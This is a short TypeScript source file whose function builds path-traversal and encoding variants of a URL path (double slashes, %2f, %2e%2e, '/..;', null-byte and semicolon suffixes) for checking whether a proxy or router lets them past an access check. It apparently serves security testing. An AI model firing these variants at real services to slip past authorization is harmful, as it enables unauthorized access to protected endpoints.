/** Other spellings of a path. A proxy or a router may treat them as the path, even if the check in front of it does not. */

/**
 * @param path begins with a slash
 * @param openPath the path of an operation that serves everyone
 */
export function pathVariants(path: string, openPath: string): string[] {
  const inner = path.slice(1);
  const letter = /[a-z]/i.exec(inner)?.[0] ?? "";
  const encoded = `%${letter.charCodeAt(0).toString(16)}`;
  const last = path.lastIndexOf("/");
  const [start, end] = [path.slice(0, last), path.slice(last + 1)];
  const open = openPath === "/" ? "" : openPath.replace(/\/$/, "");
  const depth = open.split("/").length - 1;
  const variants = [
    // slashes
    `${path}/`,
    `/${path}`,
    `${start}//${end}`,
    `${path}//`,
    `${start}%2f${end}`,
    `${start}/%2f${end}`,
    `${path}%2f`,
    `${start}\\${end}`,
    // case
    path.toUpperCase(),
    `${start}/${end.charAt(0).toUpperCase()}${end.slice(1)}`,
    // encoding
    letter && path.replace(letter, encoded),
    letter && path.replace(letter, encoded.replace("%", "%25")),
    // dots
    `/.${path}`,
    `${path}/.`,
    `${start}/./${end}`,
    `${start}/%2e/${end}`,
    `${path}/x/..`,
    `${start}/x/../${end}`,
    `${start}/x/%2e%2e/${end}`,
    `${start}/x/..%2f${end}`,
    `/..${path}`,
    `/%2e%2e${path}`,
    `${open}${"/..".repeat(depth)}${path}`,
    `${open}${"/%2e%2e".repeat(depth)}${path}`,
    `${open}${"/..;".repeat(depth)}${path}`,
    // what some routers cut off
    `${path};x=1`,
    `${path};/x`,
    `${start};x=1/${end}`,
    `${path}.json`,
    `${path}%20`,
    `${path}%00`,
    `${path}%23`,
    `${path}%3f`,
  ];
  return [...new Set(variants)].filter((variant) => variant !== "" && variant !== path);
}
